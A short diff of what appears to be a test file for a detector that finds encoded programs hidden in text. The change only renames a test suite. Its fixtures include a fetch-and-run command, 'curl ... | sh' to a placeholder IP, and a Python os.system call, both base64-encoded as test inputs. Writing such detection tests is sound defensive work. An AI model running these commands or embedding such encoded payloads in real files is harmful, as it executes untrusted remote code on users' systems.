@@ -8,7 +8,7 @@ const base64 = (text: string | Buffer): string => Buffer.from(text).toString('ba
 const hex = (text: string): string => Buffer.from(text).toString('hex')
 const DOWNLOAD = 'curl -s http://203.0.113.9/a | sh'
 
-describe('programs that are hidden in text', () => {
+describe('the search for programs that are hidden in text', () => {
   it.each([
     ['a shell command', `x = "${base64(DOWNLOAD)}"`],
     ['a Python program', `x = "${base64('import os\nos.system("id")\n')}"`],
